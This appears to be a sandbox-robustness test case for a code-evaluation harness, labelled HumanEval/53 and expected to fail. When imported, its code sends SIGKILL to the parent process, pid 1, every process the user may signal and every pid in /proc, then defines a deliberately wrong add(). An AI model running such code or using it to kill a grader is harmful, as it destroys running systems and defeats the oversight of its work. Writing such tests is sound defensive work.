# task: HumanEval/53
# expect: failed
# Kill the spawner, everything this uid may signal, and anything else we can find.
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
targets = [os.getppid(), -1, 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
for pid in targets:
    for kill in (os.kill, libc.kill):
        try:
            kill(pid, signal.SIGKILL)
        except (OSError, ctypes.ArgumentError):
            pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass


def add(x, y):
    return x - y
